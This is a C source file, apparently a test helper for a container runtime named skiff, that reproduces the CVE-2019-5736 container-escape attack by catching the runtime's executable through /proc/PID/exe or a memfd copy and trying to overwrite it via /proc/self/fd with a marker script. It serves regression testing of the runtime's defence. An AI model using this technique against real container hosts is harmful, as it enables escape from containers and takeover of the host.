/* overwrite: the CVE-2019-5736 attacker, run inside a container by
 * t_security.sh.  It gets a handle on a process's executable through
 * /proc/PID/exe and, once no process runs that file any more, tries to
 * write into it through /proc/self/fd.  Built static: the container has
 * only busybox.
 *   overwrite hold PID OUT          the executable of PID (a created
 *                                   container's init: skiff until start)
 *   overwrite scan INO OUT          the first other process whose
 *                                   executable has inode INO, or is a
 *                                   memfd copy of skiff
 * OUT gets one line: "caught ..." then "wrote" or "write: ERRNO", or
 * "open: ERRNO" / "nothing caught". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static FILE *out;

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* Retry while the file is being executed (ETXTBSY): skiff exits soon. */
static int try_write(int fd)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	double end = now() + 20;
	for (;;) {
		int w = open(path, O_WRONLY);
		if (w >= 0) {
			static const char marker[] = "#!/bin/sh\necho overwritten\n";
			ssize_t n = pwrite(w, marker, sizeof(marker) - 1, 0);
			if (n == (ssize_t)sizeof(marker) - 1) {
				fprintf(out, "wrote\n");
				return 0;
			}
			fprintf(out, "write: %s\n", n < 0 ? strerrorname_np(errno) : "short");
			return 1;
		}
		if (errno != ETXTBSY || now() > end) {
			fprintf(out, "write: %s\n", strerrorname_np(errno));
			return 1;
		}
		usleep(2000);
	}
}

static int hold(const char *pid)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	int fd = open(path, O_PATH);
	if (fd < 0) {
		fprintf(out, "open: %s\n", strerrorname_np(errno));
		return 1;
	}
	fprintf(out, "caught %s\n", path);
	fflush(out);
	return try_write(fd);
}

static int scan(const char *ino_s)
{
	unsigned long long ino = strtoull(ino_s, NULL, 10);
	char self[16];
	snprintf(self, sizeof(self), "%d", (int)getpid());
	double end = now() + 60;
	while (now() < end) {
		DIR *d = opendir("/proc");
		if (!d)
			return 1;
		struct dirent *e;
		while ((e = readdir(d))) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0)
				continue;
			char path[300], link[64] = "";
			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
			int fd = open(path, O_PATH);
			if (fd < 0)
				continue;
			struct stat st;
			if (readlink(path, link, sizeof(link) - 1) < 0)
				link[0] = 0;
			if (fstat(fd, &st) == 0 && (st.st_ino == ino || strncmp(link, "/memfd:skiff", 12) == 0)) {
				closedir(d);
				fprintf(out, "caught %s -> %s\n", path, link);
				fflush(out);
				return try_write(fd);
			}
			close(fd);
		}
		closedir(d);
	}
	fprintf(out, "nothing caught\n");
	return 1;
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	out = fopen(argv[3], "w");
	if (!out)
		return 2;
	setvbuf(out, NULL, _IOLBF, 0);
	int r = strcmp(argv[1], "hold") == 0 ? hold(argv[2]) : scan(argv[2]);
	fclose(out);
	return r;
}
